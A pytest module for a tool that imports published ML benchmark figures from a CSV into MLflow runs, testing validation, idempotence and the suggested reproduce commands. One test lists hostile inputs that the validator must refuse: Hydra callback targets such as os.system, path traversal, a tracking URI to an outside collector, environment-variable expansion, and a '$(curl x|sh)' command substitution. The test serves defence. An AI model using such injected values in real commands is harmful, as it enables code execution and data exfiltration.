"""Published figures imported as MLflow runs: one per reference cell, the schema's names, traceable to their
source line, comparable only with what measured the same quantity; idempotent and strict."""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import re
import shlex
import sqlite3
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from conftest import ROOT, child_env, metric_history, runs_in, with_schema
from trainbench import cli as entry_point
from trainbench.config import params
from trainbench.measure import hardware
from trainbench.references import cli, loading
from trainbench.references.loading import composing
from trainbench.references.mapping import IDENTITY, composed
from trainbench.references.reading import COLUMNS, OPTIONAL_COLUMNS
from trainbench.store.runs import SETTING_TAGS
from trainbench.store.setting import release, setting, setting_id

REFERENCES_PY = ROOT / "src" / "references.py"
CSV = ROOT / "references" / "published-results.csv"
HEADER = ",".join([*COLUMNS, *OPTIONAL_COLUMNS])
# Two figures of one reference cell (a GPU laptop) and one of another (its CPU), with the newer columns.
GOOD_ROWS = [
    "mine,my laptop,Laptop M1 Max 64GB,gpu,Apple M1 Max 32-core GPU (MPS),pytorch,2.5.1,resnet18,synthetic_224,64,fp32,,throughput,410,img/s,,,steps,device,false,,my notes p. 1",
    "mine,my laptop,Laptop M1 Max 64GB,gpu,Apple M1 Max 32-core GPU (MPS),pytorch,2.5.1,resnet18,synthetic_224,64,fp32,,power_w,31,W,,,,,,gpu,my notes p. 1",
    "mine,my laptop,Laptop M1 Max 64GB,cpu,Apple M1 Max 10-core CPU,pytorch,2.5.1,resnet18,synthetic_224,64,fp32,,throughput,60,img/s,,,,,,,my notes p. 2",
]


@dataclass
class Imported:
    returncode: int
    stdout: str
    stderr: str


@pytest.fixture(scope="module")
def imported(tmp_path_factory):
    """The shipped CSV imported once into a fresh store by `python src/references.py`'s own main, in this process:
    its compositions of the rows' commands (mapping.composed, ~0.2 s each) then serve every later import and
    composition here. The script as a process is run by test_the_entry_point_says_one_line_and_exits_2_on_a_bad_file."""
    folder = tmp_path_factory.mktemp("references")
    uri = with_schema(f"sqlite:///{folder / 'mlflow.db'}")  # the session's empty store: no schema migrations
    out, err = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        patch.setenv("MLFLOW_TRACKING_URI", uri)
        patch.setenv("TRAINBENCH_REFERENCES_CACHE", "off")  # composed here, whatever the user's cache holds
        patch.chdir(folder)
        returncode = cli.main([])
    return Imported(returncode, out.getvalue(), err.getvalue()), uri


@pytest.fixture
def store(imported, monkeypatch, tmp_path):
    """In-process imports into the module's store (what `python src/references.py` resolves)."""
    _, uri = imported
    monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
    monkeypatch.chdir(tmp_path)
    return uri


def shipped_rows() -> list[dict[str, str]]:
    with CSV.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def reference_cells() -> set[tuple[str, ...]]:
    return {tuple(row[k] for k in IDENTITY) for row in shipped_rows()}


def write_csv(path: Path, rows: list[str], header: str = HEADER) -> Path:
    path.write_text("\n".join([header, *rows]) + "\n")
    return path


@functools.cache
def published(uri: str) -> tuple[Any, ...]:
    """The runs the module's import recorded, read once for the tests that only read them (a read of all their tags,
    params and metrics takes ~0.2 s): nothing here changes them. Tests that import again read the store themselves."""
    return tuple(runs_in(uri))


def run_ids(uri: str, experiment: str = "trainbench") -> set[str]:
    """The ids of the experiment's runs (not deleted) in the SQLite store, read with SQL: MLflow's search would
    load every run's tags, params and metrics to count them (~0.2 s for this module's store)."""
    query = (
        "select run_uuid from runs join experiments using (experiment_id)"
        " where experiments.name = ? and runs.lifecycle_stage = 'active'"
    )
    with contextlib.closing(sqlite3.connect(uri.removeprefix("sqlite:///"))) as db:
        return {run_id for (run_id,) in db.execute(query, (experiment,))}


def by_name(uri: str) -> dict[tuple[str, str, str], object]:
    """(source, run name, series or hw.label + depth + precision) -> run."""
    return {
        (
            r.data.tags["reference.source"],
            r.info.run_name,
            f"{r.data.tags.get('reference.series', r.data.tags['hw.label'])} {r.data.params.get('model.depth', '')} "
            f"{r.data.tags['trainbench.precision']}".replace("  ", " "),
        ): r
        for r in published(uri)
    }


def test_every_shipped_figure_says_where_in_its_source_it_is() -> None:
    rows = shipped_rows()
    assert rows and all(row["source_line"] for row in rows)
    assert all(row["power_scope"] for row in rows if row["metric"] == "power_w")


def test_one_finished_run_per_reference_cell(imported) -> None:
    completed, uri = imported
    assert completed.returncode == 0, completed.stderr[-2000:]
    runs = published(uri)
    assert len(runs) == len(reference_cells())
    assert {r.info.status for r in runs} == {"FINISHED"}
    assert f"{len(runs)} created" in completed.stdout


def test_importing_again_changes_nothing(store, capsys) -> None:
    before = run_ids(store)
    assert cli.main([]) == 0
    assert run_ids(store) == before
    assert f"0 created, 0 replaced, {len(before)} unchanged, 0 removed" in capsys.readouterr().out


def test_imported_runs_carry_the_schema_and_comparison_names(imported) -> None:
    _, uri = imported
    for run in published(uri):
        tags, params = run.data.tags, run.data.params
        assert tags["trainbench.kind"] == "reference" and tags["trainbench.outcome"] == "finished"
        assert tags["reference.citation"] and tags["reference.key"] and tags["reference.source_line"]
        # the label a local run on that hardware gets, by the main tool's own rule
        assert hardware.label(tags["trainbench.backend"], tags) == tags["hw.label"]
        for key in (
            "trainbench.task",
            "trainbench.model",
            "trainbench.precision",
            "trainbench.timed_region",
            "trainbench.pipeline",
            "trainbench.optimize",
            "trainbench.num_devices",
        ):
            assert key in SETTING_TAGS and tags[key], key
        if tags["trainbench.task"] == "matmul":  # as a matmul cell is named
            assert run.info.run_name == "tensorflow-matmul_square-metal-fp32" and run.data.metrics == {"peak_tflops": 8}
        else:
            assert run.info.run_name == (
                f"{tags['trainbench.framework']}-{tags['trainbench.model']}-"
                f"{tags['trainbench.backend']}-bs{params['batch_size']}"
            )
        if "avg_power_w" in run.data.metrics:
            assert tags["power.scope"] in ("gpu", "board", "package")


def test_the_m1_blog_has_every_epoch_from_its_per_sample_times(imported) -> None:
    _, uri = imported
    blog = by_name(uri)[("blog-m1-tensorflow-2022", "tensorflow-mlp-metal-bs32", "Apple M1 GPU (8 cores) fp32")]
    rows = [
        r
        for r in shipped_rows()
        if r["source"] == "blog-m1-tensorflow-2022"
        and r["device_kind"] == "gpu"
        and r["accelerator"].startswith("Apple")
        and r["metric"] == "time_per_sample_us"
    ]
    published = {int(r["epoch"]): float(r["value"]) for r in rows}
    assert sorted(published) == [1, 2, 3, 4, 5]
    history = [(m.step, m.value) for m in metric_history(uri, blog.info.run_id, "epoch_time_s")]
    # Keras printed whole seconds ("17s 331us/sample"); the epoch took 331 us x 50,000 samples = 16.55 s
    assert history == [(epoch, pytest.approx(us * 50_000 / 1e6)) for epoch, us in sorted(published.items())]
    steady = [seconds for epoch, seconds in history if epoch > 1]
    assert blog.data.metrics["samples_per_s"] == pytest.approx(50_000 * len(steady) / sum(steady))
    assert blog.data.metrics["first_epoch_time_s"] == pytest.approx(published[1] * 0.05)
    tags = blog.data.tags
    assert (tags["trainbench.epochs"], tags["trainbench.samples_per_epoch"], tags["trainbench.image_size"]) == (
        "5",
        "50000",
        "32",
    )
    assert tags["trainbench.timed_region"] == "fit" and blog.data.params["model.hidden_sizes"] == "[3000, 1000]"


def test_corrected_and_added_figures(imported) -> None:
    _, uri = imported
    runs = by_name(uri)
    h200 = runs[("lambda-deeplearning-benchmark", "pytorch-resnet50-cuda-bs2560", "NVIDIA H200 (141 GB) mixed_fp16")]
    h100 = runs[
        ("lambda-deeplearning-benchmark", "pytorch-resnet50-cuda-bs1280", "NVIDIA H100 PCIe (80 GB) mixed_fp16")
    ]
    # the version its source states (sys_pytorch.txt), compared by release
    assert h200.data.tags["trainbench.framework_version"] == h100.data.tags["trainbench.framework_version"]
    assert release(h200.data.tags["trainbench.framework_version"]) == "2.3"
    dle = runs[("deeplearningexamples", "pytorch-resnet50-cuda-bs256", "NVIDIA A100-SXM4-80GB tf32")]
    assert dle.data.tags["trainbench.channels_last"] == "false" and dle.data.params["framework.channels_last"] == "auto"
    assert (
        runs[("deeplearningexamples", "pytorch-resnet50-cuda-bs256", "NVIDIA A100-SXM4-80GB mixed_fp16")].data.tags[
            "trainbench.channels_last"
        ]
        == "true"
    )
    # TensorFlow's default float32 on an A100 is TF32, as the CSV says of its other A100 rows
    a100 = runs[("tf-metal-experiments", "tensorflow-mobilenet_v2-cuda-bs128", "NVIDIA A100 (memory unknown) tf32")]
    assert a100.data.metrics == {"samples_per_s": 269}
    assert runs[
        ("tf-metal-experiments", "tensorflow-mobilenet_v2-metal-bs128", "Apple M1 Pro GPU (14 cores) fp32")
    ].data.metrics == {"samples_per_s": 168.7}
    default = [
        r for key, r in runs.items() if key[0] == "m1-tensorflow-benchmark" and key[2].startswith("M1 (Default)")
    ]
    assert sorted(r.data.metrics["total_time_s"] for r in default) == [50.99, 60.18, 78.80, 102.37]
    assert {r.data.tags["trainbench.timed_region"] for r in default} == {"build_fit"}


def test_framework_versions_only_where_a_source_states_them(imported) -> None:
    _, uri = imported
    stated = {
        (r.data.tags["reference.source"], r.data.tags.get("reference.system")): r.data.tags.get(
            "trainbench.framework_version"
        )
        for r in published(uri)
    }
    # the M1-tensorflow-benchmark repo states 2.7.0 for the M1 MacBook Air only
    assert stated[("m1-tensorflow-benchmark", "MacBook Air 2020 Apple M1")] == "2.7.0"
    assert stated[("m1-tensorflow-benchmark", "Google Colab")] is None
    assert stated[("m1-tensorflow-benchmark", "Kaggle")] is None
    assert all(version is None for (source, _), version in stated.items() if source == "tf-metal-experiments")
    assert all(
        not version or version[0].isdigit() or version.startswith("NGC") for version in stated.values()
    )  # never "2.x"


def test_the_tf_metal_studys_memory_column_is_carried_as_values(imported) -> None:
    _, uri = imported
    m1max = {
        r.data.tags["trainbench.model"]: r.data.metrics.get("peak_device_memory_mb")
        for r in published(uri)
        if r.data.tags["reference.source"] == "tf-metal-experiments" and r.data.tags.get("hw.chip") == "Apple M1 Max"
    }
    gigabytes = {model: mb / 1024 for model, mb in m1max.items() if mb}
    assert gigabytes == {"resnet50": 13, "mobilenet_v2": 15, "distilbert": 9, "bert_large": 14}


def test_every_published_row_names_the_command_that_measures_exactly_its_setting(imported) -> None:
    """The report's "to measure one here" line is `python src/run.py` + the row's command: composed as the sweep
    composes it (the preset's own sweep narrowed by the command line), it is one cell of the row's setting."""
    _, uri = imported
    unreproducible = set()
    with composing():
        for run in published(uri):
            command = run.data.tags.get("reference.reproduce")
            if not command:
                unreproducible.add(run.data.tags["reference.source"])
                continue
            (cell,) = composed(command)  # cells_for(shlex.split(command)), composed once per command per process
            its_params = {k: str(v) for k, v in params(cell.task.prepared(cell)).items()}
            assert setting(its_params, {}) == setting(run.data.params, run.data.tags), command
    assert unreproducible == {"deeplearningexamples"}  # real ImageNet through a 16-worker loader


def test_the_dry_run_of_a_suggested_command_names_the_rows_setting(imported, tmp_path, monkeypatch) -> None:
    """One row per source through the real entry point (`python src/run.py`'s main, in this process):
    `sweep.dry_run=true` prints the setting's id."""
    _, uri = imported
    firsts = {}
    for run in published(uri):
        if run.data.tags.get("reference.reproduce"):
            firsts.setdefault(run.data.tags["reference.source"], run)
    assert len(firsts) == 5
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'dry.db'}")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", list(sys.argv))  # the entry point sets it to the command line, as run.py has it
    for run in firsts.values():
        command = shlex.split(run.data.tags["reference.reproduce"])
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = entry_point.main(entry_point.hydra_entry(), [*command, "sweep.dry_run=true"])
        assert code == 0, err.getvalue()[-2000:]
        (row,) = [line for line in out.getvalue().splitlines()[2:] if "cell(s); nothing was run" not in line]
        assert row.split()[1] == setting_id(setting(run.data.params, run.data.tags)), (command, row)
    assert not (tmp_path / "dry.db").exists()


def test_a_command_that_measures_something_else_is_refused_by_line(store, tmp_path, capsys) -> None:
    wrong = GOOD_ROWS[2] + ",+experiment=pytorch_mps_study model=resnet18 batch_size=4 device=cpu"
    assert cli.main([str(write_csv(tmp_path / "wrong.csv", [wrong])), "--experiment", "wrong"]) == 2
    err = capsys.readouterr().err.strip()
    assert (
        "line 2: `reproduce`='+experiment=pytorch_mps_study model=resnet18 batch_size=4 device=cpu' composes a cell "
        "with task.name='train', but the row says 'benchmark'; nothing was imported"
    ) in err, err
    assert runs_in(store, "wrong") == []


def test_a_command_that_sets_hydras_own_keys_is_refused_by_line(store, tmp_path, capsys) -> None:
    """The report prints a row's `reproduce` command for anyone to run, and `+hydra.callbacks.x._target_=...` has
    Hydra call any function when it is run (2026-11-29: such a row was imported and its command printed)."""
    quoted = "'+hydra.callbacks.evil._target_=builtins.print'"  # a shell's quotes: Hydra gets the word without
    foreign = {
        "+hydra.callbacks.evil._target_=builtins.print": "which is not a setting of the cell",
        quoted: "which is not a setting of the cell",
        "hydra/launcher=basic": "which is not a setting of the cell",
        "--multirun": "which is a flag",
        "+experiment=../../../../tmp/planted": "which names no file of conf/experiment/",  # any YAML: its callbacks
        "tracking.uri=http://collector.example:5000": "which is not a setting of the cell",  # your runs sent away
        "data.root=/home": "which is not someone else's to choose",
        "model.weights_file=../../x": "which is not someone else's to choose",
        "framework.install=pip_install_this": "which is not someone else's to choose",
        "model.depth=${oc.env:HOME}": "whose value is not a name",  # the reader's environment in their runs
        "model.depth=$\\\\{oc.env:HOME\\\\}": "whose value is not a name",  # Hydra's escape: one again
    }
    for extra, why in foreign.items():
        row = GOOD_ROWS[2] + f",+experiment=pytorch_mps_study model=resnet18 batch_size=4 device=cpu {extra}"
        assert cli.main([str(write_csv(tmp_path / "hydra.csv", [row])), "--experiment", "hydra"]) == 2
        (err,) = capsys.readouterr().err.strip().splitlines()
        assert f"holds {shlex.split(extra)[0]!r}, {why}" in err, err
        assert "nothing was imported" in err, err
    assert runs_in(store, "hydra") == []
    from trainbench.references.commands import reproducible

    # the report's command runs what the row says and nothing else when pasted into a shell
    assert reproducible("model=mlp optim.name='$(curl x|sh)'") is None
    # quoted as a shell needs it, so that the pasted command passes each word as it is
    spaced = "python src/run.py model=mlp 'model.hidden_sizes=[64, 32]'"
    assert reproducible("model=mlp 'model.hidden_sizes=[64, 32]'") == spaced
    assert reproducible("model=mlp '+hydra.callbacks.x._target_=os.system'") is None
    assert reproducible("model=mlp tracking.uri=http://collector.example:5000") is None
    assert reproducible("+experiment=mlp_depth_study model.depth=5 device=cpu batch_size=32 seed=1") is not None
    assert reproducible("model=mlp cell.timeout_s=3600 tracking.system_metrics_interval_s=0 ++model.depth=2")


def test_power_says_what_it_covers(imported) -> None:
    _, uri = imported
    runs = by_name(uri)
    m1max = runs[("tf-metal-experiments", "tensorflow-resnet50-metal-bs64", "Apple M1 Max GPU (32 cores) fp32")]
    rtx = runs[("tf-metal-experiments", "tensorflow-resnet50-cuda-bs64", "NVIDIA GeForce RTX 3090 (24 GB) mixed_fp16")]
    assert m1max.data.metrics == {"samples_per_s": 135, "avg_power_w": 40, "peak_device_memory_mb": 13 * 1024}
    assert m1max.data.tags["power.scope"] == "gpu"
    assert rtx.data.metrics == {"samples_per_s": 957, "avg_power_w": 300} and rtx.data.tags["power.scope"] == "board"
    assert rtx.data.tags["trainbench.compile"] == "true" and rtx.data.tags["trainbench.optimize"] == "fast"  # +xla


def test_a_colleagues_rows_add_runs_and_a_corrected_figure_replaces_its_run(store, tmp_path, capsys) -> None:
    mine = write_csv(tmp_path / "mine.csv", GOOD_ROWS)
    assert cli.main([str(mine), "--experiment", "colleague"]) == 0
    assert "2 created" in capsys.readouterr().out
    first = {r.info.run_name: r for r in runs_in(store, "colleague")}
    assert first["pytorch-resnet18-mps-bs64"].data.metrics == {"samples_per_s": 410, "avg_power_w": 31}
    assert first["pytorch-resnet18-mps-bs64"].data.tags["reference.source_line"] == "my notes p. 1"

    corrected = GOOD_ROWS[0].replace(",410,", ",415,")
    added = GOOD_ROWS[2].replace(",64,fp32,,throughput,60,", ",128,fp32,,throughput,70,")
    write_csv(mine, [corrected, *GOOD_ROWS[1:], added])
    assert cli.main([str(mine), "--experiment", "colleague"]) == 0
    assert "1 created, 1 replaced, 1 unchanged" in capsys.readouterr().out
    after = {r.info.run_name: r for r in runs_in(store, "colleague")}
    assert len(after) == 3
    assert after["pytorch-resnet18-mps-bs64"].data.metrics["samples_per_s"] == 415
    assert after["pytorch-resnet18-cpu-bs64"].info.run_id == first["pytorch-resnet18-cpu-bs64"].info.run_id

    # a figure taken out of the file takes its run with it; another source's runs stay
    other = write_csv(tmp_path / "other.csv", [GOOD_ROWS[2].replace("mine,my laptop,", "theirs,their laptop,")])
    assert cli.main([str(other), "--experiment", "colleague"]) == 0
    write_csv(mine, [corrected, *GOOD_ROWS[1:]])
    capsys.readouterr()
    assert cli.main([str(mine), "--experiment", "colleague"]) == 0
    assert "0 created, 0 replaced, 2 unchanged, 1 removed" in capsys.readouterr().out
    left = [(r.data.tags["reference.source"], r.info.run_name) for r in runs_in(store, "colleague")]
    assert sorted(left) == [
        ("mine", "pytorch-resnet18-cpu-bs64"),
        ("mine", "pytorch-resnet18-mps-bs64"),
        ("theirs", "pytorch-resnet18-cpu-bs64"),
    ]


def test_a_file_without_the_newer_columns_still_imports(store, tmp_path, capsys) -> None:
    old = [",".join(row.split(",")[: len(COLUMNS)]) for row in (GOOD_ROWS[0], GOOD_ROWS[2])]
    assert cli.main([str(write_csv(tmp_path / "old.csv", old, ",".join(COLUMNS))), "--experiment", "old"]) == 0
    (gpu,) = [r for r in runs_in(store, "old") if r.data.tags["trainbench.backend"] == "mps"]
    assert gpu.data.tags["trainbench.timed_region"] == "steps" and gpu.data.tags["trainbench.pipeline"] == "device"


@pytest.mark.parametrize(
    ("bad_row", "expected"),
    [
        (GOOD_ROWS[0].replace(",410,", ",fast,"), "`value`='fast' is not valid: must be a number"),
        (GOOD_ROWS[0].replace(",throughput,", ",speed,"), "`metric`='speed' is not valid: choose one of"),
        (GOOD_ROWS[0].replace(",64,fp32,", ",0,fp32,"), "`batch_size`='0' is not valid"),
        (GOOD_ROWS[0].replace(",64,fp32,", ",32.5,fp32,"), "`batch_size`='32.5' is not valid"),
        (GOOD_ROWS[0].replace(",Apple M1 Max 32-core GPU (MPS),", ",,"), "`accelerator` is empty; it is required"),
        (GOOD_ROWS[0].replace(",410,img/s,", ",410,ms,"), "`unit`='ms' is not valid: metric throughput takes"),
        (GOOD_ROWS[0].replace(",410,", ",411,"), "gives samples_per_s again for the same reference cell as line 2"),
        (GOOD_ROWS[1].replace(",gpu,my notes", ",,my notes"), "`power_scope` is empty on a power_w row"),
        (
            GOOD_ROWS[1].replace(",W,,,,,,gpu,", ",W,,,fit,,,gpu,"),
            "`timed_region`='fit' differs from 'steps' on line 2",
        ),
        (GOOD_ROWS[0].replace(",steps,", ",wall,"), "`timed_region`='wall' is not valid"),
    ],
)
def test_a_malformed_row_is_rejected_by_line_and_nothing_is_written(store, tmp_path, capsys, bad_row, expected) -> None:
    before = run_ids(store)
    bad = write_csv(tmp_path / "bad.csv", [GOOD_ROWS[0], bad_row, GOOD_ROWS[2]])
    assert cli.main([str(bad), "--experiment", "malformed"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"trainbench: {bad} line 3: ") and expected in err, err
    assert err.endswith("nothing was imported") and "\n" not in err
    assert runs_in(store, "malformed") == [] and run_ids(store) == before


def test_the_entry_point_says_one_line_and_exits_2_on_a_bad_file(tmp_path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("source,value\nx,1\n")
    completed = subprocess.run(
        [sys.executable, str(REFERENCES_PY), str(bad)],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env=child_env({"MLFLOW_TRACKING_URI": f"sqlite:///{tmp_path / 'm.db'}"}),
    )
    assert completed.returncode == 2
    (line,) = completed.stderr.strip().splitlines()
    assert line.startswith(f"trainbench: {bad} line 1: missing column(s) reference, system, device_kind, ")
    assert f"the header must be {','.join(COLUMNS)} (optionally followed by {','.join(OPTIONAL_COLUMNS)})" in line
    assert not (tmp_path / "m.db").exists()  # validated before the store is even opened


@pytest.mark.slow
def test_mlflow_run_of_the_references_entry_point_keeps_the_run_it_names(tmp_path) -> None:
    """`mlflow run . -e references` names a run of its own in its last line: it stays, FINISHED, and says what
    was imported where (the reference runs are in experiment trainbench, where the comparisons read them)."""
    from mlflow.tracking import MlflowClient

    uri = f"sqlite:///{tmp_path / 'mlflow.db'}"
    mine = write_csv(tmp_path / "mine.csv", GOOD_ROWS)
    completed = subprocess.run(
        ["mlflow", "run", str(ROOT), "-e", "references", "--env-manager", "local", "-P", f"csv={mine}"],
        cwd=tmp_path,
        env=child_env({"MLFLOW_TRACKING_URI": uri}),
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert completed.returncode == 0, completed.stderr[-2000:]
    named = re.search(r"Run \(ID '([0-9a-f]+)'\) succeeded", completed.stderr)
    assert named, completed.stderr[-2000:]
    run = MlflowClient(tracking_uri=uri).get_run(named.group(1))
    assert (run.info.status, run.info.lifecycle_stage) == ("FINISHED", "active")
    assert (run.data.tags["trainbench.kind"], run.data.tags["trainbench.outcome"]) == ("mlflow_run", "finished")
    assert "2 created" in run.data.tags["mlflow.note.content"]
    assert "(experiment trainbench)" in run.data.tags["mlflow.note.content"]
    assert len(runs_in(uri)) == 2  # the reference runs, where the comparisons look


def test_an_unreachable_store_is_one_line(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:9")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_TIMEOUT", "5")
    assert cli.main([str(write_csv(tmp_path / "ok.csv", GOOD_ROWS))]) == 2
    assert capsys.readouterr().err.startswith("trainbench: cannot reach the MLflow tracking server http://127.0.0.1:9")


def test_the_published_runs_are_composed_once_and_read_back_the_same(imported, tmp_path, monkeypatch) -> None:
    """A new store's first sweep imports the published runs; their commands are composed once per CSV and code."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    composed_now = loading.load(CSV)
    (cached,) = (tmp_path / "trainbench").glob("references-*.json")
    read_back = loading.load(CSV)
    assert read_back == composed_now
    assert [r.content_hash for r in read_back] == [r.content_hash for r in composed_now]  # nothing "replaced"

    cached.write_text("[{")  # damaged: composed again, never an error
    assert loading.load(CSV) == composed_now
    mine = write_csv(tmp_path / "mine.csv", GOOD_ROWS)  # other bytes: their own runs, not the cached ones
    assert [r.name for r in loading.load(mine)] == ["pytorch-resnet18-mps-bs64", "pytorch-resnet18-cpu-bs64"]


def test_published_runs_carry_no_thread_settings_of_the_machine_that_imports_them(imported, tmp_path, monkeypatch):
    # A sweep started with OMP_NUM_THREADS or XLA_FLAGS set imports the published rows; those rows ran elsewhere,
    # so they must not take this shell's thread settings, nor keep them in the cache for the next import.
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    monkeypatch.setenv("XLA_FLAGS", "--xla_force_host_platform_device_count=2")
    composed_here = loading.load(CSV)
    assert [key for run in composed_here for key in run.params if key.startswith("threads.")] == []
    monkeypatch.delenv("OMP_NUM_THREADS")
    monkeypatch.delenv("XLA_FLAGS")
    monkeypatch.setenv("TRAINBENCH_REFERENCES_CACHE", "off")
    assert loading.load(CSV) == composed_here


def test_the_python_api_imports_a_csv_as_the_command_does(tmp_path) -> None:
    """trainbench.import_references is `trainbench references`: typed runs and counts; again, nothing changes; a dry
    run opens no store; a bad row is refused by line before anything is written."""
    import trainbench

    uri = with_schema(f"sqlite:///{tmp_path / 'mlflow.db'}")
    mine = write_csv(tmp_path / "mine.csv", GOOD_ROWS)
    done = trainbench.import_references(mine, tracking_uri=uri, experiment="api")
    assert (done.written, done.tracking_uri, done.created, done.replaced, done.unchanged) == (True, uri, 2, 0, 0)
    recorded = {r.info.run_name: r.data.tags["hw.label"] for r in runs_in(uri, "api")}
    assert {run.name: run.machine for run in done.runs} == recorded
    assert sorted(run.lines for run in done.runs) == [(2, 3), (4,)]  # the GPU's two figures make one run
    again = trainbench.import_references(mine, tracking_uri=uri, experiment="api")
    assert (again.created, again.replaced, again.unchanged, again.removed) == (0, 0, 2, 0)

    listed = trainbench.import_references(mine, tracking_uri=f"sqlite:///{tmp_path / 'none.db'}", dry_run=True)
    assert (listed.written, listed.tracking_uri, len(listed.runs)) == (False, None, 2)
    assert not (tmp_path / "none.db").exists()

    bad = write_csv(tmp_path / "bad.csv", [GOOD_ROWS[0], GOOD_ROWS[1].replace(",31,W,", ",lots,W,")])
    with pytest.raises(trainbench.BadInput, match=r"bad.csv line 3: .*nothing was imported"):
        trainbench.import_references(bad, tracking_uri=uri, experiment="api-bad")
    assert run_ids(uri, "api-bad") == set()
